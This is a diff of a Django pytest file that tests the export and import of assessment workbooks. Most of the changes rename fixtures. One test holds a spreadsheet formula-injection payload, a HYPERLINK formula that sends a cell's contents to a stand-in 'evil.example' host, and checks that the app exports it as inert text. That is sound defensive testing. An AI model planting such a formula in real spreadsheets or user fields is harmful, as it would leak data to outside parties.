@@ -20,13 +20,13 @@ pytestmark = pytest.mark.django_db
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
 
-def answered(tpu, lead):
-    save(lead, tpu, "PPA1A", "Ya", note="SK sudah ada.")
-    save(lead, tpu, "PPA1B", "B", note="Tambahkan SOP pemilihan anggota.", rec=True)
-    save(lead, tpu, "PRA1A", {"agents": 4, "changes": 3})
-    save(lead, tpu, "PRC3A", {"last_year": 5, "this_year": 2, "sanctioned": 1})
-    save(lead, tpu, "HBA", "3.62")
-    save(lead, tpu, "HPA", "3")
+def answered(tpu_assessment, lead):
+    save(lead, tpu_assessment, "PPA1A", "Ya", note="SK sudah ada.")
+    save(lead, tpu_assessment, "PPA1B", "B", note="Tambahkan SOP pemilihan anggota.", rec=True)
+    save(lead, tpu_assessment, "PRA1A", {"agents": 4, "changes": 3})
+    save(lead, tpu_assessment, "PRC3A", {"last_year": 5, "this_year": 2, "sanctioned": 1})
+    save(lead, tpu_assessment, "HBA", "3.62")
+    save(lead, tpu_assessment, "HPA", "3")
 
 
 def export(client, assessment) -> bytes:
@@ -49,9 +49,9 @@ def state(assessment):
     }
 
 
-def test_the_workbook_follows_the_lke_layout(client_for, tpu, tpu_lead):
-    answered(tpu, tpu_lead)
-    book = load_workbook(io.BytesIO(export(client_for(tpu_lead), tpu)))
+def test_the_workbook_follows_the_lke_layout(client_for, tpu_assessment, tpu_user):
+    answered(tpu_assessment, tpu_user)
+    book = load_workbook(io.BytesIO(export(client_for(tpu_user), tpu_assessment)))
     sheet = book["LKE"]
     rows = list(sheet.iter_rows(values_only=True))
     header = next(i for i, r in enumerate(rows) if list(r[: len(HEADERS)]) == HEADERS)
@@ -67,26 +67,26 @@ def test_the_workbook_follows_the_lke_layout(client_for, tpu, tpu_lead):
 
 
 def test_export_then_import_gives_identical_answers(
-    client_for, admin, cycle, tpu, tpu_lead, tpi_lead
+    client_for, admin, cycle, tpu_assessment, tpu_user, tpi_user
 ):
-    answered(tpu, tpu_lead)
-    content = export(client_for(tpu_lead), tpu)
+    answered(tpu_assessment, tpu_user)
+    content = export(client_for(tpu_user), tpu_assessment)
     # Into the same assessment: nothing changes.
-    response = upload(client_for(tpu_lead), tpu, content)
+    response = upload(client_for(tpu_user), tpu_assessment, content)
     assert response.status_code == 200
     assert 'data-testid="import-nochange"' in response.content.decode()
     # Into a fresh assessment of the cycle (the TPI's): the same answers, notes and flags.
     at_stage(cycle, "evaluasi_tpi")
     with scope(tenant=cycle.tenant_id):
-        tpi = services.assessment_open(actor=admin, cycle=cycle, level="tpi", lead=tpi_lead)
-    client = client_for(tpi_lead)
+        tpi = services.assessment_open(actor=admin, cycle=cycle, level="tpi", lead=tpi_user)
+    client = client_for(tpi_user)
     preview = upload(client, tpi, content)
     assert preview.status_code == 200
     assert not Answer.objects.filter(assessment=tpi).exists()  # a dry run writes nothing
     token = preview.context["token"]
     done = client.post(reverse("assessment:import_confirm", args=[tpi.pk]), {"token": token})
     assert done.status_code == 302
-    assert state(tpi) == state(tpu)
+    assert state(tpi) == state(tpu_assessment)
     # And back out again: the second export reads the same as the first.
     again = load_workbook(io.BytesIO(export(client, tpi)))["LKE"]
     first = load_workbook(io.BytesIO(content))["LKE"]
@@ -97,10 +97,10 @@ def test_export_then_import_gives_identical_answers(
     assert pick(again) == pick(first)
 
 
-def test_import_reports_every_bad_row_and_saves_nothing(client_for, tpu, tpu_lead):
-    answered(tpu, tpu_lead)
-    before = state(tpu)
-    book = load_workbook(io.BytesIO(export(client_for(tpu_lead), tpu)))
+def test_import_reports_every_bad_row_and_saves_nothing(client_for, tpu_assessment, tpu_user):
+    answered(tpu_assessment, tpu_user)
+    before = state(tpu_assessment)
+    book = load_workbook(io.BytesIO(export(client_for(tpu_user), tpu_assessment)))
     sheet = book["LKE"]
     rows = {row[0].value: row for row in sheet.iter_rows(min_row=7) if row[0].value}
     rows["PPA1A"][6].value = "Tidak"  # a good change, not saved because of the others
@@ -111,7 +111,7 @@ def test_import_reports_every_bad_row_and_saves_nothing(client_for, tpu, tpu_lea
     rows["PPA2B"][11].value = "Ya"  # a recommendation without a note
     out = io.BytesIO()
     book.save(out)
-    response = upload(client_for(tpu_lead), tpu, out.getvalue())
+    response = upload(client_for(tpu_user), tpu_assessment, out.getvalue())
     assert response.status_code == 400
     body = response.content.decode()
     for text in (
@@ -123,7 +123,7 @@ def test_import_reports_every_bad_row_and_saves_nothing(client_for, tpu, tpu_lea
     ):
         assert text in body, text
     assert "token" not in response.context or not response.context.get("token")
-    assert state(tpu) == before
+    assert state(tpu_assessment) == before
 
 
 @pytest.mark.parametrize(
@@ -134,75 +134,83 @@ def test_import_reports_every_bad_row_and_saves_nothing(client_for, tpu, tpu_lea
     ],
 )
 def test_a_file_that_is_not_an_lke_workbook_gets_one_clear_message(
-    client_for, tpu, tpu_lead, content, message
+    client_for, tpu_assessment, tpu_user, content, message
 ):
-    response = upload(client_for(tpu_lead), tpu, content)
+    response = upload(client_for(tpu_user), tpu_assessment, content)
     assert response.status_code == 400
     assert message in response.content.decode()
 
 
-def test_a_workbook_without_the_lke_sheet_is_refused(client_for, tpu, tpu_lead):
+def test_a_workbook_without_the_lke_sheet_is_refused(client_for, tpu_assessment, tpu_user):
     from openpyxl import Workbook
 
     out = io.BytesIO()
     Workbook().save(out)
-    response = upload(client_for(tpu_lead), tpu, out.getvalue())
+    response = upload(client_for(tpu_user), tpu_assessment, out.getvalue())
     assert response.status_code == 400
     assert "LKE" in response.content.decode() and "tidak ditemukan" in response.content.decode()
 
 
-def test_an_answer_changed_since_the_dry_run_stops_the_import(client_for, tpu, tpu_lead, tpu_two):
-    answered(tpu, tpu_lead)
-    book = load_workbook(io.BytesIO(export(client_for(tpu_lead), tpu)))
+def test_an_answer_changed_since_the_dry_run_stops_the_import(
+    client_for, tpu_assessment, tpu_user, tpu_user_tl
+):
+    answered(tpu_assessment, tpu_user)
+    book = load_workbook(io.BytesIO(export(client_for(tpu_user), tpu_assessment)))
     for row in book["LKE"].iter_rows(min_row=7):
         if row[0].value == "PPB1A":
             row[6].value = "A"
     out = io.BytesIO()
     book.save(out)
-    client = client_for(tpu_lead)
-    preview = upload(client, tpu, out.getvalue())
+    client = client_for(tpu_user)
+    preview = upload(client, tpu_assessment, out.getvalue())
     token = preview.context["token"]
-    save(tpu_two, tpu, "PPB1B", "C")  # someone saves meanwhile
-    response = client.post(reverse("assessment:import_confirm", args=[tpu.pk]), {"token": token})
+    save(tpu_user_tl, tpu_assessment, "PPB1B", "C")  # someone saves meanwhile
+    response = client.post(
+        reverse("assessment:import_confirm", args=[tpu_assessment.pk]), {"token": token}
+    )
     assert response.status_code == 302
-    assert not Answer.objects.filter(assessment=tpu, question__code="PPB1A").exists()
+    assert not Answer.objects.filter(assessment=tpu_assessment, question__code="PPB1A").exists()
 
 
-def test_a_wrong_token_writes_nothing(client_for, tpu, tpu_lead):
-    response = client_for(tpu_lead).post(
-        reverse("assessment:import_confirm", args=[tpu.pk]), {"token": "palsu"}
+def test_a_wrong_token_writes_nothing(client_for, tpu_assessment, tpu_user):
+    response = client_for(tpu_user).post(
+        reverse("assessment:import_confirm", args=[tpu_assessment.pk]), {"token": "palsu"}
     )
     assert response.status_code == 302
     assert not Answer.objects.exists()
 
 
 def test_a_computed_answer_reads_as_a_sentence_on_the_result_page_and_back_on_import(
-    client_for, tpu, tpu_lead
+    client_for, tpu_assessment, tpu_user
 ):
-    answered(tpu, tpu_lead)
-    page = client_for(tpu_lead).get(reverse("assessment:result", args=[tpu.pk])).content.decode()
+    answered(tpu_assessment, tpu_user)
+    page = (
+        client_for(tpu_user)
+        .get(reverse("assessment:result", args=[tpu_assessment.pk]))
+        .content.decode()
+    )
     assert "3 perubahan yang dibuat agen perubahan / 4 agen perubahan = 75 %" in page
     assert "agents=" not in page
     assert "Proyeksi predikat" in page and "hanya ditetapkan oleh TPN" in page
-    book = load_workbook(io.BytesIO(export(client_for(tpu_lead), tpu)))
+    book = load_workbook(io.BytesIO(export(client_for(tpu_user), tpu_assessment)))
     assert any(r[0] == "Proyeksi predikat" for r in book["Rekap"].iter_rows(values_only=True))
     # The sentence is read back: edited to 2 of 4, the import sees a change to 50 %.
     rows = {r[0].value: r for r in book["LKE"].iter_rows() if r[0].value}
     rows["PRA1A"][6].value = "2 perubahan yang dibuat agen perubahan / 4 agen perubahan = 75 %"
     out = io.BytesIO()
     book.save(out)
-    response = upload(client_for(tpu_lead), tpu, out.getvalue())
+    response = upload(client_for(tpu_user), tpu_assessment, out.getvalue())
     assert response.status_code == 200, response.content.decode()[:2000]
     assert "PRA1A" in response.content.decode()
 
 
 def test_a_note_that_looks_like_a_formula_is_exported_as_text_and_imports_back(
-    client_for, admin, cycle, tpu, tpu_lead, tpi_lead
+    client_for, admin, cycle, tpu_assessment, tpu_user, tpi_user
 ):
     evil = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
-    save(tpu_lead, tpu, "PPA1A", "Ya", note=evil)
-    save(tpu_lead, tpu, "PPA1B", "B", note="-2+3 bukan rumus")
-    content = export(client_for(tpu_lead), tpu)
+    save(tpu_user, tpu_assessment, "PPA1A", "Ya", note=evil)
+    save(tpu_user, tpu_assessment, "PPA1B", "B", note="-2+3 bukan rumus")
+    content = export(client_for(tpu_user), tpu_assessment)
     sheet = load_workbook(io.BytesIO(content))["LKE"]
     note_column = HEADERS.index("Catatan")
     cells = {r[0].value: r[note_column] for r in sheet.iter_rows() if r[0].value}
@@ -213,8 +221,8 @@ def test_a_note_that_looks_like_a_formula_is_exported_as_text_and_imports_back(
     # The TPI imports the TPU's file: the note is the text, not a formula's result.
     at_stage(cycle, "evaluasi_tpi")
     with scope(tenant=cycle.tenant_id):
-        tpi = services.assessment_open(actor=admin, cycle=cycle, level="tpi", lead=tpi_lead)
-    client = client_for(tpi_lead)
+        tpi = services.assessment_open(actor=admin, cycle=cycle, level="tpi", lead=tpi_user)
+    client = client_for(tpi_user)
     preview = upload(client, tpi, content)
     client.post(
         reverse("assessment:import_confirm", args=[tpi.pk]), {"token": preview.context["token"]}
